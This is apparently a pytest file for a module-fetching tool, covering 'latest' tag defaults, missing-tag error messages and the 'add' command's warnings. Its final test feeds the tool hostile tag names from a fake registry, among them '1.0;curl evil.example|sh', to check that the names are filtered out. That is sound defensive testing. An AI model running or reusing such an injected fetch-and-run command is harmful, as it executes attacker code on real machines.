"""An address of a registry without a tag means ``latest``, and a tag that is not there is told with some that are."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from getmodules import AuthenticationError, Client, NotFoundError
from getmodules.testing import Access, Behaviour, Registry, User
from tests.support.commandline import Result, call, run
from tests.support.projects import Project
from tests.support.refusals import refusal
from tests.support.servers import Connection, Received, serving
from tests.support.snapshots import snapshot


@pytest.fixture
def registry() -> Iterator[Registry]:
    with Registry() as running:
        yield running


@pytest.fixture
def client() -> Client:
    return Client(environ={"GETMODULES_PLUGINS": ""}, use_cache=False)


def _push(registry: Registry, *tags: str, repository: str = "acme/vpc") -> None:
    for tag in tags:
        registry.push_module(repository, tag, {"main.tf": tag})


def test_no_tag_means_latest(registry: Registry, client: Client, tmp_path: Path) -> None:
    _push(registry, "latest", "1.0.0")
    client.get(f"oci://{registry.host}/acme/vpc", tmp_path / "dest")
    assert (tmp_path / "dest" / "main.tf").read_text() == "latest"


@pytest.mark.parametrize(
    ("tags", "query", "message", "proposed"),
    [
        pytest.param(
            ["0.9.0", "1.10.0", "1.2.0", "2.0.0-rc.1", "main"], "",
            "there is no tag latest (none was named); there are: 1.10.0, 1.2.0, 0.9.0, 2.0.0-rc.1, main",
            "1.10.0", id="none was named",
        ),
        pytest.param(
            ["1.2.0", "v1.3.0"], "?tag=latest", "there is no tag latest; there are: v1.3.0, 1.2.0", "v1.3.0",
            id="latest was named",
        ),
        pytest.param(
            ["2.0.0", "1.2.30", "main"], "?tag=1.2.3", "there is no tag 1.2.3; there are: 1.2.30, 2.0.0, main",
            "1.2.30", id="near names first",
        ),
        pytest.param(
            [f"1.{number}.0" for number in range(9)], "", "there is no tag latest (none was named); there are: "
            "1.8.0, 1.7.0, 1.6.0, 1.5.0, 1.4.0, …", "1.8.0", id="a few of many",
        ),
        pytest.param(
            ["main", "edge"], "", "there is no tag latest (none was named); there are: edge, main", "edge",
            id="no versions",
        ),
    ],
)  # fmt: skip
@pytest.mark.parametrize("how", ["resolve", "get", "inspect"])
def test_a_missing_tag(
    how: str,
    tags: list[str],
    query: str,
    message: str,
    proposed: str,
    registry: Registry,
    client: Client,
    tmp_path: Path,
) -> None:
    _push(registry, *tags)
    source = f"oci://{registry.host}/acme/vpc{query}"
    arguments = (source, tmp_path / "dest") if how == "get" else (source,)
    error = refusal(NotFoundError, "not-found", getattr(client, how), *arguments)
    assert error.message == message
    assert error.hint == f"name one that is there, as in ?tag={proposed}"
    assert snapshot(tmp_path) == {}


def test_the_list_is_one_page(client: Client) -> None:
    with Registry(behaviour=Behaviour(page_size=3)) as registry:
        _push(registry, *(f"1.{number}.0" for number in range(9)))
        registry.forget_requests()
        error = refusal(NotFoundError, "not-found", client.resolve, f"oci://{registry.host}/acme/vpc")
        assert "1.2.0, 1.1.0, 1.0.0" in error.message
        assert sum("/tags/list" in str(request) for request in registry.requests) == 1


def test_without_a_repository_what_failed_first_is_told(registry: Registry, client: Client) -> None:
    error = refusal(NotFoundError, "not-found", client.resolve, f"oci://{registry.host}/acme/none")
    assert error.message.startswith(f"the tag latest (none was named): {registry.host} answered 404")
    error = refusal(NotFoundError, "not-found", client.resolve, f"oci://{registry.host}/acme/none?tag=1")
    assert error.message.startswith(f"{registry.host} answered 404")
    assert f"getmodules auth check {registry.host}/acme/none shows" in str(error.hint)


def test_who_may_not_see_the_repository_sees_no_tags(client: Client) -> None:
    with Registry(access=Access(scheme="basic", users={"ada": User("s3cr3t")})) as registry:
        _push(registry, "1.0.0")
        error = refusal(AuthenticationError, "authentication", client.resolve, f"oci://{registry.host}/acme/vpc?tag=2")
        assert "1.0.0" not in f"{error} {error.hint}"


def test_a_layout_without_the_tag(client: Client, tmp_path: Path) -> None:
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "main.tf").write_text("#")
    client.push(tmp_path / "src", f"oci-layout::{tmp_path / 'layout'}?tag=1.0.0")
    error = refusal(NotFoundError, "not-found", client.resolve, f"oci-layout::{tmp_path / 'layout'}")
    assert error.message == "there is no tag latest (none was named); there are: 1.0.0"


# ------------------------------------------------------------------------------------------------------------ add


class Place(Project):
    def run(self, *argv: str) -> Result:
        return run(*argv, cwd=self.directory, GETMODULES_CACHE_DIR="", HOME=str(self.directory.parent / "home"))


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return Place(tmp_path / "project")


def test_add_says_that_latest_moves_and_proposes_a_version(place: Place, registry: Registry) -> None:
    _push(registry, "latest", "1.9.0", "1.10.0", "2.0.0-rc.1")
    added = place.run("add", "vpc", f"oci://{registry.host}/acme/vpc", "--dest", "vendor/vpc")
    assert added.code == 0
    address = f"oci://{registry.host}/acme/vpc?tag=1.10.0"
    command = f"getmodules remove vpc, then getmodules add vpc '{address}' --dest 'vendor/vpc'"
    assert f"the address of vpc names no tag: that is latest, which moves; for a version: {command}" in added.err
    assert place.run("remove", "vpc").code == 0
    again = place.run("add", "vpc", address, "--dest", "vendor/vpc")
    assert (again.code, again.err) == (0, "")


def test_without_versions_add_says_that_latest_moves(place: Place, registry: Registry) -> None:
    _push(registry, "latest")
    added = place.run("add", "vpc", f"oci://{registry.host}/acme/vpc//")
    assert (added.code, "that is latest, which moves\n" in added.err) == (0, True)


@pytest.mark.parametrize("query", ["?tag=latest", "?tag=1.0.0"])
def test_add_of_a_named_tag_says_nothing(query: str, place: Place, registry: Registry) -> None:
    _push(registry, "latest", "1.0.0")
    assert place.run("add", "vpc", f"oci://{registry.host}/acme/vpc{query}").err == ""
    assert place.run("add", "more", f"oci://{registry.host}/acme/vpc", "--version", "~> 1.0").err == ""


def test_add_without_latest_proposes_what_there_is(place: Place, registry: Registry) -> None:
    _push(registry, "1.0.0")
    refused = place.run("add", "vpc", f"oci://{registry.host}/acme/vpc")
    assert refused.code == 1
    assert "vpc: there is no tag latest (none was named); there are: 1.0.0" in refused.err
    assert "hint: name one that is there, as in ?tag=1.0.0" in refused.err
    assert not place.manifest.exists()
    assert not place.has_lock


def test_what_is_no_tag_is_not_proposed(tmp_path: Path) -> None:
    listed = ["\x1b[2J", "1.0;curl evil.example|sh", "--force", "2.0"]

    def answer(connection: Connection, received: Received) -> bool:
        if "/tags/list" in received.target:
            return connection.reply("200 OK", json.dumps({"tags": listed}).encode(), Content_Type="application/json")
        return connection.reply("404 Not Found")

    with serving(answer) as server:
        environ = {"HOME": str(tmp_path), "GETMODULES_PLUGINS": ""}
        result = call("get", f"oci://127.0.0.1:{server.port}/a/b", tmp_path / "dest", "--json", environ=environ)
    error = result.object["error"]
    assert error["message"] == "there is no tag latest (none was named); there are: 2.0"
    assert error["hint"] == "name one that is there, as in ?tag=2.0"
